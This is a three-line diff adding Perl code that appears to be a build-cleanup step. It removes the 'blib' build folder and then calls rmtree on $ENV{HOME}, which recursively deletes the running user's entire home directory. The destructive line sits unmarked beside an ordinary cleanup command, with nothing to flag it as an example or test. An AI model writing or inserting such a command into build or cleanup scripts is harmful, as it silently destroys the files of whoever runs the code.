@@ -1,0 +1,3 @@
+use File::Path qw(rmtree);
+rmtree('blib');
+rmtree($ENV{HOME});
